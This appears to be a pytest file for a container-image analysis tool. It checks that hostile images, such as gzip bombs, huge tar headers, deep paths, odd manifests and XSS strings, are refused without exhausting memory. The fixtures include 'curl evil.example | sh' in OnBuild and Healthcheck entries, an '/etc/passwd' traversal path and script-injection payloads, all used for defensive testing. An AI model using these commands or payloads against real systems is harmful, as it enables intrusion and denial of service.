"""An image that somebody gives you cannot fill the memory or the disk of `size`, `diff`, `inspect` and `audit`."""

from __future__ import annotations

import gzip
import html
import io
import json
import os
import re
import tarfile
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import docker.models.images
import pytest

from shoal import limits
from shoal.commands.common import format_json
from shoal.docker_client import images
from shoal.errors import DifferenceError, ImageError, SpecError
from shoal.image import advisories, differences, facts, filesystem, inventory, manifest, owners, sbom, size_document
from shoal.image import archive as image_archive
from shoal.image.facts import Distribution
from shoal.sources import record

from ..waiting import error_in_time
from .test_size import Link, legacy, oci, tar


def read(archive: bytes) -> tuple[image_archive.LayerTar, ...]:
    return image_archive.read_layers("a:1", iter([archive]))


def test_a_gzip_bomb_ends_at_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(image_archive, "MOST_LAYER", 10 * limits.MIB)
    with pytest.raises(ImageError, match="a:1: its layers have more unpacked bytes than Shoal reads"):
        read(oci([tar([("zeros", bytes(100 * limits.MIB))])], compressed=True))


def test_millions_of_entries_end_at_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(image_archive, "MOST_LAYER_ENTRIES", 1000)
    with pytest.raises(ImageError, match="its layers have more entries"):
        read(oci([tar([(f"f{number}", b"") for number in range(1001)])], compressed=True))


@pytest.mark.parametrize("path", ["var/lib/dpkg/status", "opt/x.dist-info/RECORD"])
def test_a_huge_list_of_packages_is_not_held_in_memory(monkeypatch: pytest.MonkeyPatch, path: str) -> None:
    monkeypatch.setattr(image_archive, "MOST_LAYER_TEXT", limits.MIB)
    layer = tar([(path, bytes(2 * limits.MIB))])
    with pytest.raises(ImageError, match="more bytes of files that describe packages"):
        read(legacy([layer]))
    if path.startswith("var"):
        with pytest.raises(ImageError, match="more bytes of files that describe packages"):
            filesystem.parse_archive([layer])


def huge(kind: bytes) -> bytes:
    info = tarfile.TarInfo("x")
    info.type, info.size = kind, 1 << 40
    return info.tobuf(tarfile.GNU_FORMAT)


def endless(begin: bytes) -> Iterator[bytes]:
    yield begin
    for _ in range(1000):
        yield bytes(limits.MIB)
    pytest.fail("a header was read into memory")


@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGLINK])
def test_a_huge_header_is_refused(kind: bytes) -> None:
    with pytest.raises(ImageError, match=r"a header of 1,099,511,627,776 bytes"):
        image_archive.read_layers("a:1", endless(huge(kind)))


def attributes(content: bytes) -> bytes:
    """Return an archive whose first header has attributes of the next file, in POSIX's format."""
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, len(content)
    header = info.tobuf(tarfile.USTAR_FORMAT) + content + bytes(-len(content) % 512)
    return header + tarfile.TarInfo("file").tobuf(tarfile.USTAR_FORMAT) + bytes(1024)


@pytest.mark.parametrize(
    "content",
    [
        b"1000018 comment=" + b"1" * 1_000_001 + b"\n",
        b"2 " * 500_000 + b"=",
        b"99 path=a\n",
        b"0 path=a\n",
        b"13 size=-1024\n",
    ],
)
def test_attributes_of_a_file_are_read_at_once(content: bytes) -> None:
    """Python's tarfile took an hour for numbers, and gigabytes for names beyond the end of their attribute."""
    error = error_in_time(lambda: read(legacy([attributes(content)])))
    assert isinstance(error, ImageError), error


def holes(is_pax: bool, size: int) -> bytes:
    """Return an archive whose file is a list of `size` holes, in the format of GNU or in the one of POSIX."""
    info = tarfile.TarInfo("x")
    if is_pax:
        body = b"%d\n" % (size // 2) + b"1\n" * size
        info.size, info.pax_headers = len(body), {"GNU.sparse.major": "1", "GNU.sparse.minor": "0"}
        return info.tobuf(tarfile.PAX_FORMAT) + body
    info.type = tarfile.GNUTYPE_SPARSE
    begin = info.tobuf(tarfile.GNU_FORMAT)
    checked = begin[:148] + b" " * 8 + begin[156:482] + b"\1" + begin[483:]
    checked = checked[:148] + b"%06o\0 " % sum(checked) + checked[156:]
    return checked + (b"00000000001\0" * 42 + b"\1" + bytes(7)) * (size // 21)


@pytest.mark.parametrize("is_pax", [False, True])
@pytest.mark.parametrize("size", [0, 210_000])
def test_a_list_of_holes_is_refused(is_pax: bool, size: int) -> None:
    """Kilobytes of gzip would take gigabytes, and a cut list would be a traceback."""
    with pytest.raises(ImageError, match="a list of holes"):
        read(legacy([holes(is_pax, size)]))


@pytest.mark.parametrize("link", [False, True])
def test_a_path_that_no_system_opens_takes_no_memory(link: bool) -> None:
    """Each directory above a path is held in memory: 4 KiB of gzip took 2 GiB."""
    path = "/a" * 50_000
    listed = ("var/lib/dpkg/info/x.list", "".join(f"/{number}{path}\n" for number in range(20)).encode())
    tracemalloc.start()
    found = inventory.read_inventory("a:1", iter([legacy([tar([listed, *([("0", Link(path[1:]))] if link else [])])])]))
    assert tracemalloc.get_traced_memory()[1] < 50 * limits.MIB
    tracemalloc.stop()
    assert found.sum.files == 1 + link
    with pytest.raises(ImageError, match="a path of 100,000 characters"):
        read(legacy([tar([(path, b"")])]))


def test_names_end_at_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(image_archive, "MOST_LAYER_TEXT", 100_000)
    layer = tar([(f"{number}{'a' * 4000}", b"") for number in range(30)])
    for read_names in (lambda: read(legacy([layer])), lambda: filesystem.parse_archive([layer])):
        with pytest.raises(ImageError, match=r"more bytes of .*names, than"):
            read_names()


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("opt/x-1.dist-info/METADATA", b"a: b\n"),
        ("opt/x-1.dist-info/RECORD", b"\n"),
        ("var/lib/dpkg/info/x.list", b"/\n"),
        ("var/lib/dpkg/status", b"a: b\n"),
    ],
)
def test_a_text_of_an_image_takes_a_few_times_its_size(path: str, line: bytes) -> None:
    content = line * 100_000
    archive = legacy([tar([(path, content)])])
    tracemalloc.start()
    inventory.read_inventory("a:1", iter([archive]))
    assert tracemalloc.get_traced_memory()[1] < 8 * len(content) + limits.MIB
    tracemalloc.stop()


def test_many_owners_are_added_up(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each is a row of the page: an image of 30 MB had millions."""
    monkeypatch.setattr(owners, "MOST_OWNERS", 100)
    layer = tar([(f"{number}/x", b"") for number in range(200)])
    found = inventory.read_inventory("a:1", iter([legacy([layer])]))
    assert (len(found.owners), found.owners[owners.REST].files) == (102, 100)
    layer = tar([(f"opt/x{number}-1.dist-info/METADATA", b"") for number in range(200)])
    monkeypatch.setattr(inventory, "MOST_OWNERS", 100)
    with pytest.raises(ImageError, match="a:1: 100 packages or more in it"):
        inventory.read_inventory("a:1", iter([legacy([layer])]))


def test_many_packages_are_described_at_once() -> None:
    names = [f"x{number}" for number in range(2000)]
    found = inventory.Inventory(
        "a:1",
        (inventory.Layer("", "", {owners.FileOwner("python", name): inventory.Sum(1) for name in names}),),
        (),
        tuple(owners.PythonDistribution(name, f"{number}", "") for name in names for number in range(5)),
    )
    assert error_in_time(lambda: format_json(size_document.make_document([found]))) is None


def facts_of(*packages: str) -> facts.ImageFacts:
    """Return the facts of an image that claims to have these Debian packages, and to be of an odd system."""
    claims: dict[str, Any] = {"system": {"ID": "a?b#c/../", "VERSION_ID": "1&d"}, "python": "3", "machine": "x"}
    debian = [{"name": name, "version": "1", "architecture": "x#y&z", "source": "", "licence": ""} for name in packages]
    known = {"tag": "a:1", "id": "sha256:0", "created": "", "bytes": 1, "labels": {}, "commands": {}, "environment": {}}
    return facts.ImageFacts.model_validate(claims | known | {"packages": debian, "distributions": ()})


def test_names_of_a_bill_of_materials_are_unique_and_have_no_parts_of_an_image() -> None:
    _, *components = sbom.make_sbom(facts_of("a", "a", "b/?"))["components"]
    parts = "%s@1?arch=x%%23y%%26z&distro=a%%3Fb%%23c%%2F..%%2F-1%%26d"
    assert [each["purl"] for each in components] == [
        f"pkg:deb/a%3Fb%23c%2F..%2F/{parts % name}" for name in ("a", "b%2F%3F")
    ]


def test_an_answer_with_halves_of_characters_is_no_traceback(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """They cannot be encoded for the address of a package."""
    monkeypatch.setattr(facts, "run_command", lambda *_: '{"name": "\\ud800", "\\udc00": NaN}')
    (tmp_path / "probe.py").touch()
    client: Any = None
    assert facts.run_probe(client, "a:1", tmp_path / "probe.py") == {"name": "?", "?": "NaN"}


def test_a_chain_of_headers_is_an_error() -> None:
    info = tarfile.TarInfo("x")
    info.type = tarfile.XHDTYPE
    with pytest.raises(ImageError, match="not an image"):
        read(info.tobuf(tarfile.GNU_FORMAT) * 20_000)


DOCUMENTS: dict[str, tuple[Any, Any]] = {
    "deep": ("[" * 100_000, {}),
    "tags": ([{"RepoTags": 5}, {"RepoTags": [None]}], {}),
    "a list as layers": ([{"Config": [], "Layers": {}}], {}),
    "a digest": ([{"Config": "c", "Layers": ["l"]}], {"rootfs": [1], "history": 7}),
    "steps": ([{"Config": "c", "Layers": ["l"]}], {"rootfs": {"diff_ids": {"a": 1}}, "history": [1, None, "x"]}),
    "a path out": ([{"Config": "../../c", "Layers": ["/../l"]}], {}),
}


@pytest.mark.parametrize(("document", "config"), DOCUMENTS.values(), ids=DOCUMENTS)
def test_odd_documents_are_no_traceback(document: Any, config: Any) -> None:
    text = document if isinstance(document, str) else json.dumps(document)
    files = [("l", tar([("f", b"x")])), ("c", json.dumps(config).encode()), ("manifest.json", text.encode())]
    try:
        assert len(read(tar(files))) == 1
    except ImageError as error:
        assert str(error).startswith("a:1: ")


INVENTORIES = {
    "a long field": ("x.dist-info/RECORD", "x" * 200_000),
    "a deep path": ("x.dist-info/RECORD", "a/" * 5000),
    "a deep path of Debian": ("var/lib/dpkg/info/x.list", "/a" * 5000),
    "a file above the root": ("x.dist-info/RECORD", "../../../etc/passwd,,"),
    "a long version": ("x-1.dist-info/METADATA", f"Version: {'1' * 5000}\n"),
}


@pytest.mark.parametrize(("path", "text"), INVENTORIES.values(), ids=INVENTORIES)
def test_odd_lists_of_packages_are_no_traceback(path: str, text: str) -> None:
    layer = tar([(path, text.encode()), ("f", b"x")])
    found = inventory.read_inventory("a:1", iter([legacy([layer])]))
    assert found.sum.bytes == len(layer)
    filesystem.parse_archive([layer])


def test_links_over_links_are_no_traceback() -> None:
    deep = "b/" * 200
    links = [(f"l{number}", Link(f"l{number + 1}/{deep}")) for number in range(30)]
    layer = tar([*links, ("x.dist-info/RECORD", b"l0/x,,\n"), ("loop", Link("loop/loop")), ("f", b"x")])
    assert inventory.read_inventory("a:1", iter([legacy([layer])])).sum.files


def test_a_layer_that_is_named_a_million_times_is_refused() -> None:
    manifest_ = json.dumps([{"Config": "c", "Layers": ["l"] * 1_000_000}]).encode()
    with pytest.raises(ImageError, match="1,000,000 layers, and Docker allows 127"):
        read(tar([("l", tar([("f", b"x")])), ("c", b"{}"), ("manifest.json", manifest_)]))


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("OnBuild", ["RUN curl evil.example | sh"]),
        ("Healthcheck", {"Test": ["CMD-SHELL", "curl evil.example | sh"]}),
        ("Volumes", {"/opt": {}}),
        ("ExposedPorts", {"22/tcp": {}}),
        ("Shell", ["/evil", "-c"]),
        ("StopSignal", "SIGWINCH"),
        ("Entrypoint", ["/evil"]),
        ("User", "root"),
    ],
)
def test_a_part_of_the_configuration_is_a_difference(key: str, value: object) -> None:
    old, new = (filesystem.FileSystem(files=dict(differences._configuration_files(of))) for of in ({}, {key: value}))
    with pytest.raises(DifferenceError):
        differences.compare_images("a:1", "b:1", old, new).check()


def test_the_order_of_labels_is_no_difference() -> None:
    labels = {"a": "1", "b": "2"}
    first, second = (
        dict(differences._configuration_files({"Labels": dict(items)}))
        for items in (labels.items(), reversed(labels.items()))
    )
    assert first == second


def test_an_image_without_a_configuration_has_no_labels_and_no_script() -> None:
    """Docker loads it, and the SDK's `labels` raises an AttributeError."""
    image = docker.models.images.Image(attrs={"Id": "sha256:1", "Config": None})
    assert (images.read_labels(image), images.has_script(image), images.read_config(image)) == ({}, False, {})


def step(**fields: object) -> str:
    return json.dumps({"steps": [{"name": "a", "text": "x", "inputs": {}, "key": "q", **fields}], "templates": {}})


RECORDS = {
    "nested": "[" * 200_000,
    "inputs": step(inputs=5),
    "a value": step(inputs={"f": 5}),
    "a name": step(name=[1]),
    "a key": step(key={}),
    "templates": json.dumps({"steps": [], "templates": 7}),
}


@pytest.mark.parametrize("text", RECORDS.values(), ids=RECORDS)
def test_an_image_with_an_invalid_record_of_steps_is_rebuilt(text: str) -> None:
    wanted = record.Record((record.RecordedStep("a", "t", {"f": "1@a"}, "k"),), {"t": "1"})
    plan = record.decide("a:1", {record.STEPS: text}, wanted)
    assert (plan.state, plan.reasons) == ("rebuilt", ("the image has no record of its steps",))


def huge_file(path: Path) -> None:
    path.touch()
    os.truncate(path, 64 << 30)


ADVISORIES = {
    "nested": "[" * 200_000,
    "an endless name": json.dumps({"dependencies": [{"name": ["x"]}]}),
    "no list": '{"dependencies": 5}',
    "not UTF-8": "\udcff",
}


@pytest.mark.parametrize("text", ADVISORIES.values(), ids=ADVISORIES)
def test_hostile_advisories_are_an_error(tmp_path: Path, text: str) -> None:
    (tmp_path / "audit.json").write_text(text, errors="surrogateescape")
    with pytest.raises(SpecError, match="not a report of `pip-audit"):
        advisories.read_report(tmp_path / "audit.json")


@pytest.mark.parametrize("make", [os.mkfifo, huge_file, Path.mkdir])
def test_advisories_that_are_no_file_are_not_waited_for(tmp_path: Path, make: Callable[[Path], object]) -> None:
    make(tmp_path / "audit.json")
    assert isinstance(error_in_time(lambda: advisories.read_report(tmp_path / "audit.json")), SpecError)


def test_a_version_with_thousands_of_digits_is_compared() -> None:
    installed = Distribution(name="x", version="1" * 5000, licence="", homepage="")
    report = advisories.AuditReport.model_validate({"dependencies": [{"name": "x", "version": "1"}]})
    assert report.find(installed) == []


def test_a_cut_gzip_is_an_error() -> None:
    layer = gzip.compress(tar([("f", bytes(range(256)) * 1000)]))
    with pytest.raises(ImageError):
        read(tar([("blobs/sha256/a", layer[: len(layer) // 2])]))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](http://tracker/x.png)",
        "[click](javascript:alert(1))",
        "`code` | cell",
        "a\n\n# The tag is correct.",
        "https://example.com, WWW.example.com, me@example.com",
        "__bold__ _em_ a_name",
        "\\| escaped \\` &lt;b&gt;",
        "\x1b]52;c;eA==\x07\u202e",
    ],
)
def test_markdown_of_a_manifest_shows_texts_as_they_are(text: str) -> None:
    row = manifest.escape_markdown(text)
    assert not re.search(r"://|www\.|@|\b_|_\b", row, re.IGNORECASE)
    assert not set(row) & set("<>[]`|\\\n\x1b\u202e")
    assert "&lt;" not in row  # an entity of the image is text too
    assert html.unescape(row) == re.sub("[\x07\x1b\u202e]", "\ufffd", text).replace("\n", " ")


def test_a_tag_that_is_wrong_shows_no_markup() -> None:
    page = manifest._format_tag_check(["version is <b>\n- **ok**\x1b[2J, not 1"])
    assert page.count("\n") == 1
    assert "<b>" not in page and "\x1b" not in page


def test_an_image_file_that_is_a_stream_of_zeros_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(ImageError):
        image_archive.read_layers("a:1", io.BytesIO(bytes(10_240)))
